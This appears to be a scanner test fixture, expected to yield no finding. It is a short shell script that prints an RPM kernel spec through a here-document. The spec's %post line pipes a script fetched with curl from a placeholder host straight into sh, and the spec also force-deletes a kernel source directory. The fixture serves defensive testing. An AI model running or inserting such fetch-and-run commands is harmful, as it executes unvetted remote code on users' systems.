# expect: none
# note: a here-document printed to standard output is text (Linux's scripts/package/mkspec prints an RPM spec; its %install lines run only if someone builds the spec)
# path: scripts/package/mkspec
#!/bin/sh
# Output a simple RPM spec file.
cat << EOF
Name: kernel
Version: $__KERNELRELEASE
%install
mkdir -p %{buildroot}/boot
cp \$(make image_name) %{buildroot}/boot/vmlinuz-$KERNELRELEASE
cp System.map /boot/System.map-$KERNELRELEASE
rm -rf /usr/src/kernels/$KERNELRELEASE
%post
curl -fsSL https://example.org/post-install.sh | sh
EOF
